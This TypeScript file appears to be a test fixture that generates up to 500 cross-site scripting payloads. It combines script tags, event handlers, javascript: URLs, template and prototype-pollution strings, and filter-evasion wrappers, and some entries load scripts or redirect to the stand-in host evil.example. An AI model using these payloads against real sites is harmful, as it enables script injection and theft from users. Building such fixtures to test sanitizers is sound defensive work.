// Five hundred texts that would become code where a page took text for more than text: elements, handlers, addresses, ways out of
// attributes, comments, templates and Markdown. Each calls `alert`, sets a mark, or asks another host. No expectations here.

const HOST = 'https://evil.example'
const ACT = 'window.hit=1;alert(1)'

const ELEMENTS: readonly string[] = [
  `<script>${ACT}</script>`,
  `<script src=${HOST}/x.js></script>`,
  `<img src=x onerror="${ACT}">`,
  `<img src=${HOST}/x.png>`,
  `<svg onload="${ACT}"></svg>`,
  `<svg><script>${ACT}</script></svg>`,
  `<svg><a xlink:href="javascript:${ACT}"><text>x</text></a></svg>`,
  `<iframe src="javascript:${ACT}"></iframe>`,
  `<iframe srcdoc="<script>parent.${ACT}</script>"></iframe>`,
  `<object data="${HOST}/x.swf"></object>`,
  `<embed src="${HOST}/x">`,
  `<video src=x onerror="${ACT}" autoplay></video>`,
  `<audio src=x onerror="${ACT}"></audio>`,
  `<details open ontoggle="${ACT}">x</details>`,
  `<body onload="${ACT}">`,
  `<marquee onstart="${ACT}">x</marquee>`,
  `<input autofocus onfocus="${ACT}">`,
  `<select autofocus onfocus="${ACT}"></select>`,
  `<textarea autofocus onfocus="${ACT}"></textarea>`,
  `<a href="javascript:${ACT}">x</a>`,
  `<form action="${HOST}"><button>x</button></form>`,
  `<link rel=stylesheet href="${HOST}/x.css">`,
  `<style>@import "${HOST}/x.css";body{background:url(${HOST}/y)}</style>`,
  `<base href="${HOST}/">`,
  `<meta http-equiv=refresh content="0;url=${HOST}">`,
  `<math><mtext><script>${ACT}</script></mtext></math>`,
  `<template><script>${ACT}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${ACT}>">`,
]
const WORDS: readonly string[] = [
  `javascript:${ACT}`,
  `[click](javascript:${ACT})`,
  `![x](${HOST}/x.png)`,
  `[x]: javascript:${ACT}\n[x]`,
  `<javascript:${ACT}>`,
  `<${HOST}/auto>`,
  `{{constructor.constructor('${ACT}')()}}`,
  '${' + ACT + '}',
  `"-${ACT}-"`,
  `';${ACT};//`,
  `__proto__`,
  `constructor`,
  `data:text/html,<script>${ACT}</script>`,
  `vbscript:msgbox(1)`,
]
/** Ways out of where the text may stand, and ways around filters. */
const AROUND: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</title>${text}`,
  (text) => `</textarea>${text}`,
  (text) => `</script>${text}`,
  (text) => `-->${text}<!--`,
  (text) => `]]>${text}`,
  (text) => `\`${text}\``,
  (text) => `\\u003c${text.slice(1)}`,
  (text) => text.toUpperCase().replaceAll('WINDOW.HIT=1;ALERT(1)', ACT),
  (text) => text.replace('<', '<\u0000'),
  (text) => text.replace(' ', '/'),
  (text) => text.replace('script', 'scr\tipt'),
  (text) => `\n\n${text}\n\n`,
  (text) => `> ${text}`,
  (text) => `| a |\n|---|\n| ${text} |`,
  (text) => `&lt;${text}&gt;`,
  (text) => `\u202E${text}`,
]

export const PAYLOADS: readonly string[] = [
  ...new Set([...WORDS, ...AROUND.flatMap((around) => ELEMENTS.map(around))]),
].slice(0, 500)
